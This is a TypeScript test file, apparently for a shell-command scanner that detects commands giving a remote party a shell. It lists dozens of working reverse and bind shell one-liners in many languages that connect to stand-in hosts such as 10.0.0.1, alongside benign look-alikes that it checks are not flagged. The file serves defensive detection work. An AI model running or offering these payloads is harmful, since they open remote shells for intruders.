import { describe, expect, it } from 'vitest';
import { LIMITS } from '../../src/core/limits.ts';
import { summarise } from '../../src/effects/summarise.ts';
import { scanned } from '../shell/scanned.ts';

function givesShell(command: string): boolean {
  return summarise(scanned(command), { home: '/home/user', workspace: '/workspace' }).effects.some(
    ({ kind, deed }) => kind === 'execute' && deed === 'network-shell',
  );
}

describe('a shell for whoever is at the other end', () => {
  it.each([
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196'],
    ['exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done'],
    ["script -qc '/bin/bash -i' /dev/null < /dev/tcp/10.0.0.1/4444"],
    ["zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 0>&$REPLY'"],
    ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'],
    ['mknod /tmp/p p; sh < /tmp/p | nc 10.0.0.1 4444 > /tmp/p'],
    ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s'],
    ['nc 10.0.0.1 4444 -e /bin/sh'],
    ["socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty"],
    ['socat TCP-LISTEN:4444,fork exec:/bin/sh'],
    ['xterm -display 10.0.0.1:1'],
    [
      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    ],
    [
      "python3 <<'E'\nimport socket,subprocess\nc=socket.socket();subprocess.run(['/bin/sh','-i'],stdin=c)\nE",
    ],
    ['perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");\''],
    [
      'ruby -rsocket -e \'c=TCPSocket.new("x",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
    ],
    ['php -r \'$s=fsockopen("x",1);proc_open("sh",array($s,$s,$s),$p);\''],
    [
      'node -e \'var n=require("net"),s=require("child_process").spawn("/bin/sh");var k=n.connect(1,"x");k.pipe(s.stdin)\'',
    ],
    ["lua -e \"require('socket');t=socket.tcp();os.execute('/bin/sh -i')\""],
    ['awk \'BEGIN{s="/inet/tcp/0/x/1";while(1){s |& getline c;while((c |& getline)>0) print $0 |& s}}\''],
    ['pwsh -c \'$c=New-Object System.Net.Sockets.TCPClient("x",1);iex $d\''],
    ["tclsh <<< 'set s [socket x 1];while 1 {puts $s [exec sh -c [gets $s]]}'"],
    [
      'echo \'package main;func main(){c,_:=net.Dial("tcp","x:1");m:=exec.Command("/bin/sh");m.Stdin=c;m.Run()}\' > t.go && go run t.go',
    ],
    ['R -e \'s=socketConnection("x",1,open="r+");while(T)writeLines(system(readLines(s,1),intern=T),s)\''],
    [
      'julia -e \'using Sockets; s=connect("x",1); while true; c=readline(s); write(s, read(`sh -c $c`)); end\'',
    ],
    [
      'erl -noshell -eval \'{ok,S}=gen_tcp:connect("x",1,[]),receive {tcp,S,D}->gen_tcp:send(S,os:cmd(D)) end\'',
    ],
    ['elixir -e \'{:ok,s}=:gen_tcp.connect({1,1,1,1},1,[]);:gen_tcp.send(s,:os.cmd(~c"id"))\''],
    ['crystal eval \'require "socket";c=TCPSocket.new("x",1);Process.new(c.gets,shell:true)\''],
    [
      'echo \'Runtime.getRuntime().exec(new String[]{"bash","-c","exec 5<>/dev/tcp/x/1;cat <&5"})\' | jshell -',
    ],
    ["sqlite3 /dev/null '.shell cat /tmp/f|sh -i 2>&1|nc x 1 >/tmp/f'"],
    ['mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 0.0.0.0 4444 > /tmp/f'],
    ['DISPLAY=10.0.0.1:0 xterm'],
    ['ttyd -p 7681 -W bash'],
    ['busybox telnetd -l /bin/sh -p 4444'],
    ['websocat --binary ws-l:0.0.0.0:8022 cmd:bash'],
    ['rcat connect -s sh 10.0.0.1 9001'],
  ])('is seen in %s', command => {
    expect(givesShell(command)).toBe(true);
  });

  it.each([
    ["timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up"],
    ['exec 3<>/dev/tcp/localhost/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'],
    ['until echo > /dev/tcp/db/5432; do sleep 1; done'],
    ['bash deploy.sh | nc log.test 514'],
    ['nc -zv localhost 22'],
    ['bash build.sh 2>&1 | nc -l 9999'],
    ['nc -l 9999 > received.txt'],
    ['DISPLAY=:0 xterm'],
    ['DISPLAY=localhost:10.0 xterm'],
    ['ttyd -p 7681 htop'],
    ['ttyd bash'],
    ['ttyd -W -i lo bash'],
    ['ttyd -W -c me:pw bash'],
    ['R -e \'s=socketConnection("x",1); readLines(s,1)\''],
    ['erl -noshell -eval \'gen_tcp:connect("x",1,[])\''],
    ['echo \'System.out.println("nc host 22");\' | jshell -'],
    ["sqlite3 app.db '.shell nc -z localhost 22'"],
    ['echo stats | nc localhost 11211'],
    ['socat TCP-LISTEN:8080,fork TCP:localhost:3000'],
    ['socat TCP-LISTEN:8080,fork EXEC:./serve.py'],
    ['xterm -e htop'],
    ['python3 -c \'import socket;s=socket.create_connection(("db",5432),2)\''],
    [
      'python3 -c \'import socket,subprocess;s=socket.socket();s.bind(("",0));subprocess.Popen(["node","server.js",str(s.getsockname()[1])])\'',
    ],
    ["node -e \"require('net').connect(5432,'localhost').on('connect',()=>process.exit(0))\""],
    ['perl -e \'use IO::Socket; print "ok" if IO::Socket::INET->new("localhost:80")\''],
    [
      'awk \'BEGIN{s="/inet/tcp/0/localhost/80";print "GET /" |& s;while((s |& getline line)>0) print line}\'',
    ],
    ['ssh -t host'],
    ["echo 'net.Dial(x)' > notes.md"],
  ])('is not seen in %s', command => {
    expect(givesShell(command)).toBe(false);
  });
});

it('looks at a program up to its cap', () => {
  const at = (chars: number): string =>
    `python3 -c '${'#'.repeat(chars)}\nimport socket;c=socket.socket();os.dup2(c.fileno(),0)'`;
  const rest = '-c\n\nimport socket;c=socket.socket();os.dup2'.length;
  expect(givesShell(at(LIMITS.codeTextChars - rest))).toBe(true);
  expect(givesShell(at(LIMITS.codeTextChars - rest + 1))).toBe(false);
});

it('is read in time that grows with the text, whatever stands in it', () => {
  for (const piece of ['socket recv ', 'getline a ', 'open     ', 'net.', '/inet/tcp/ (a |', '"'])
    for (const program of ['python3', 'awk', 'perl', 'node', 'ruby'])
      givesShell(`${program} -e '${piece.repeat(LIMITS.codeTextChars / piece.length)}'`);
});
